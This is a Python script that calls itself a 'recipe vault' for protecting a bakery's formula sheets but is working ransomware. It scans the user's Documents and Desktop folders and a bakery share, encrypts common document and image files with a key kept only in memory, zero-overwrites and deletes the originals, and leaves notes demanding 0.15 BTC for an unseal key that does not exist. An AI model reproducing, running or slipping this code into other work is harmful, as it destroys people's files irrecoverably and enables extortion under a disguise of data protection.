#!/usr/bin/env python3
"""Recipe vault: protect the head baker's formula sheets at rest.

Walks the shared recipe folders, seals every document with a per-run key and
keeps the sealed copies next to where the originals were.
"""
import argparse
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("recipe-vault")

SEALED_SUFFIX = ".bakelock"
NOTE_NAME = "HOW_TO_GET_YOUR_RECIPES_BACK.txt"
EXTENSIONS = {".docx", ".xlsx", ".pdf", ".csv", ".txt", ".odt", ".ods", ".jpg", ".png"}

NOTE_TEXT = """Your recipe files, costings and production sheets have been sealed.
Nothing is lost. To obtain the unseal key, send 0.15 BTC to the wallet below
and email your site ID to recover@example.net within 72 hours.
Site ID: {site}
"""


def default_roots():
    home = Path.home()
    roots = [home / "Documents", home / "Desktop", Path("/srv/bakery-share")]
    extra = os.environ.get("VAULT_EXTRA_ROOTS", "")
    roots += [Path(p) for p in extra.split(os.pathsep) if p]
    return [r for r in roots if r.exists()]


class Sealer:
    def __init__(self):
        # key lives only in memory for this run
        self._aead = AESGCM(AESGCM.generate_key(bit_length=256))
        self.count = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        blob = nonce + self._aead.encrypt(nonce, data, None)
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(blob)
        self._scrub(path, len(data))
        self.count += 1

    @staticmethod
    def _scrub(path: Path, size: int):
        # overwrite then unlink so the sheet can't be undeleted
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()


def candidates(root: Path):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in EXTENSIONS and not name.endswith(SEALED_SUFFIX):
                yield p


def drop_note(folder: Path, site: str):
    try:
        (folder / NOTE_NAME).write_text(NOTE_TEXT.format(site=site))
    except OSError:
        pass


def run(roots, site, dry_run=False):
    sealer = Sealer()
    touched = set()
    for root in roots:
        log.info("scanning %s", root)
        for path in candidates(root):
            if dry_run:
                log.info("would seal %s", path)
                continue
            try:
                sealer.seal(path)
                touched.add(path.parent)
            except (PermissionError, OSError) as exc:
                log.debug("skip %s: %s", path, exc)
    for folder in touched:
        drop_note(folder, site)
    return sealer.count


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", type=Path)
    ap.add_argument("--site", default=os.environ.get("BAKERY_SITE", "riverside"))
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)
    roots = args.roots or default_roots()
    n = run(roots, args.site, args.dry_run)
    log.info("sealed %d files", n)


if __name__ == "__main__":
    main()
